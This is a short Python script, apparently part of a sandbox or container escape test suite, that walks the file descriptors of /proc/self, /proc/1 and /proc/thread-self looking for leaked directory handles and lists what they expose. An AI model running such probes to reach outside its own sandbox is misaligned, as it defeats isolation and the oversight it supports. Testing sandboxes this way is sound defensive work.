import os
from attack import got

for process in ("self", "1", "thread-self"):
    for number in range(0, 256):
        try:
            os.chdir("/proc/%s/fd/%d" % (process, number))
            got("a folder through descriptor %d of %s: %s" % (number, process, os.listdir(".")[:5]))
        except OSError:
            pass
